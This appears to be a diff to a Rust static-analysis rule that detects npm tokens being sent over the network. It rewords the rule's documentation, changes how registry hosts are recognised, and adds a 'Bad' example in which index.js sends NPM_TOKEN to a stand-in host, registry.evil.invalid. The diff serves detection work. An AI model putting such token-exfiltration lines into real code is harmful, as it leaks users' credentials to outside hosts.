@@ -8,8 +8,8 @@
 //!
 //! ## Known benign uses
 //!
-//! Registry clients read the token to send it to the registry it belongs to. They are told apart by the host:
-//! a registry that the settings name is not a finding.
+//! Registry clients read the token to send it to the registry it belongs to. They are told apart by the host: a public
+//! registry, or one that the user's own settings name, is not a finding.
 //!
 //! ## Bad
 //!
@@ -22,6 +22,13 @@
 //! const request = https.request({ hostname: "collector.invalid", method: "POST" });
 //! request.write(text); //~ here
 //! request.end();
+//! ```
+//!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! fetch("https://registry.evil.invalid/-/whoami", { headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } }); //~ here
 //! ```
 //!
 //! ## Good
@@ -67,15 +74,15 @@ impl Rule for NpmTokenSentToNetwork {
             }
             _ => false,
         };
-        for flow in facts.flows(is_token, leaves) {
+        for flow in facts.flows(is_token, |sink| leaves(facts, sink)) {
             found.flow(flow);
         }
     }
 }
 
-fn leaves(sink: &Sink) -> bool {
+fn leaves(facts: &Facts<'_>, sink: &Sink) -> bool {
     match sink {
-        Sink::Network(Some(host)) => !matches!(host.class(), HostClass::Registry | HostClass::Local),
+        Sink::Network(Some(host)) => !facts.is_registry(host) && host.class() != HostClass::Local,
         Sink::Network(None) | Sink::NameLookup => true,
         _ => false,
     }
